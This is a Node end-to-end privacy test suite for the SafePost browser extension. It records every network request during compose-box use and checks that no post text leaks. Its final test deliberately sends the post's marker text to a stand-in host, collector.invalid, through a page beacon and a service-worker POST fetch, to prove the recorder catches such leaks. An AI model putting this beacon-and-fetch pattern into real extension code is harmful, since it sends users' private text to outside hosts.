// Privacy and security: every request made while SafePost is used on the four compose boxes
// (typing a risky post, opening the card, applying a suggestion, posting through the guard),
// in the popup and on the options page, from pages and from the service worker, is recorded.
// Only the fixture's own files at the sites' origins (and static.licdn.com) and SafePost's own
// chrome-extension:// files may be requested; nothing may carry the post's text.
// Run after ./build.sh: node --test tests/e2e/privacy.test.mjs
import test from 'node:test';
import assert from 'node:assert/strict';
import { launch, openFixture, typeInEditor, highlightRects } from './harness.mjs';
import { EDITORS, GUARD, clickCentre, coreFindings, posts, until } from './helpers.mjs';

// A word that appears nowhere in the fixtures: if it shows up in a request, the post leaked.
const MARKER = 'Quorblexian';
const POST = `RIP Mr Khan in bed 12, you were a legend ${MARKER}. NHS no 943 476 5919`;
const SITE_HOSTS = new Set(['x.com', 'twitter.com', 'www.facebook.com', 'web.facebook.com', 'www.linkedin.com', 'static.licdn.com']);
const PAGE_TYPES = new Set(['document', 'script', 'stylesheet', 'image', 'font']);

const requests = [];
let app;
/** The host of the extension's web-accessible files this session (use_dynamic_url: true). */
let dynamicId;
test.before(async () => {
  app = await launch({
    // Every request the browser routes passes here first; the extension's own files load.
    routes: [{ match: (u) => u.startsWith('chrome-extension://'), handle: (r) => r.continue() }],
  });
  assert.ok(app.extensionId);
  dynamicId = new URL(await app.serviceWorker.evaluate(() => chrome.runtime.getURL('wasm/safepost_bg.wasm'))).host;
  const record = (r, from) => requests.push({
    from, url: r.url(), method: r.method(), type: r.resourceType(), body: r.postDataBuffer()?.toString('latin1') ?? '',
    sw: !!r.serviceWorker?.(),
  });
  app.context.on('request', (r) => record(r, 'context'));
  for (const w of app.context.serviceWorkers()) w.on('request', (r) => record(r, 'service worker'));
  app.context.on('serviceworker', (w) => w.on('request', (r) => record(r, 'service worker')));
});
test.after(async () => app?.close());

function problems() {
  const out = [];
  for (const r of requests) {
    const u = new URL(r.url);
    const where = `${r.from} ${r.method} ${r.type} ${r.url.slice(0, 160)}`;
    if (r.url.includes(MARKER) || decodeURIComponent(r.url).includes(MARKER) || r.body.includes(MARKER)) out.push(`post text in a request: ${where}`);
    if (u.protocol === 'chrome-extension:') {
      // Our files, by the extension's id or by its per-session dynamic id (use_dynamic_url).
      if (u.host !== app.extensionId && u.host !== dynamicId) out.push(`another extension: ${where}`);
      if (r.method !== 'GET' || r.body) out.push(`data sent to an extension URL: ${where}`);
    } else if (u.protocol === 'https:' && SITE_HOSTS.has(u.hostname)) {
      if (r.method !== 'GET' || r.body) out.push(`data sent to the site: ${where}`);
      if (!PAGE_TYPES.has(r.type)) out.push(`not a page resource (${r.type}): ${where}`);
      if (r.sw) out.push(`request from the service worker to a site: ${where}`);
    } else if (u.protocol === 'data:' && r.type === 'image') {
      // the fixtures' inline images
    } else {
      out.push(`request to another destination: ${where}`);
    }
  }
  return out;
}

for (const ed of EDITORS) {
  test(`${ed.name}: typing, the card, Apply and Post anyway make no request but the page's own`, async () => {
    const before = requests.length;
    const page = await openFixture(app, ed.url);
    await page.bringToFront();
    await page.waitForFunction(() => document.documentElement.dataset.safepostReady === '1');
    await typeInEditor(page, POST);
    const findings = await coreFindings(POST);
    await until(page, async () => (await highlightRects(page)).highlights.length === findings.length, 'underlines');
    // Open the card on the first suggestion and apply it.
    const withSuggestion = findings.find((f) => f.suggestion !== undefined);
    const h = (await highlightRects(page)).highlights.find((x) => x.text === withSuggestion.text);
    const r = h.rects[0];
    await page.mouse.move(r.x + r.width / 2, r.y + r.height / 2, { steps: 3 });
    const apply = page.locator('[data-safepost-card] button[data-action="apply"]');
    await apply.waitFor({ state: 'visible', timeout: 5000 });
    await apply.click();
    await until(page, async () => !(await page.evaluate(() => window.__safepostFixture.model(0))).includes(withSuggestion.text), 'applied');
    // Post through the guard.
    await page.mouse.move(0, 0);
    await clickCentre(page, ed.button);
    await page.locator(GUARD).waitFor();
    await page.locator(`${GUARD} button[data-action="post-anyway"]`).click();
    await until(page, async () => (await posts(page)).length === 1, 'the post');
    assert.ok((await posts(page))[0].text.includes(MARKER));
    await page.close();
    assert.ok(requests.length > before, 'requests were recorded');
    assert.deepEqual(problems(), []);
  });
}

test('popup and options page make no request but SafePost\'s own files', async () => {
  const site = await openFixture(app, EDITORS[0].url);
  await typeInEditor(site, POST);
  const tabId = await app.serviceWorker.evaluate(async () => (await chrome.tabs.query({ url: 'https://x.com/*' }))[0].id);
  for (const path of [`popup.html?tab=${tabId}`, 'options.html', 'welcome.html']) {
    const page = await app.context.newPage();
    await page.goto(`chrome-extension://${app.extensionId}/${path}`);
    await page.waitForSelector('body[data-ready="true"]', { timeout: 15000 }).catch(() => {});
    // Use them a little: every button that is not destructive, every checkbox.
    await page.locator('input[type="checkbox"]').evaluateAll((l) => l.forEach((c) => c.click())).catch(() => {});
    await page.waitForTimeout(300);
    await page.close();
  }
  await site.close();
  const extPages = requests.filter((r) => r.url.startsWith('chrome-extension://'));
  assert.ok(extPages.length > 0, 'extension page requests were recorded');
  assert.deepEqual(problems(), []);
  console.log(`privacy: ${requests.length} requests recorded, hosts: ${[...new Set(requests.map((r) => new URL(r.url).host || r.url.slice(0, 20)))].join(', ')}`);
});

test('the recorder sees what it must fail on: a beacon from a page, a fetch from the service worker', async () => {
  const start = requests.length;
  // LinkedIn's connect-src is *: X's and Facebook's policies would block the beacon before it is a request.
  const page = await openFixture(app, EDITORS[2].url);
  await page.evaluate((m) => navigator.sendBeacon(`https://collector.invalid/b?${m}`, m), MARKER);
  await app.serviceWorker.evaluate((m) => fetch(`https://collector.invalid/sw?${m}`, { method: 'POST', body: m }).catch(() => {}), MARKER);
  await until(page, async () => requests.slice(start).filter((r) => r.url.includes('collector.invalid')).length === 2, `both requests recorded (have ${JSON.stringify(requests.slice(start).map((r) => [r.from, r.url]))})`, 60);
  await page.close();
  const found = problems();
  assert.ok(found.some((p) => p.startsWith('post text in a request') && p.includes('/b?')), found.join('\n'));
  assert.ok(found.some((p) => p.startsWith('request to another destination') && p.includes('/sw?')), found.join('\n'));
  requests.splice(start); // these were ours
});
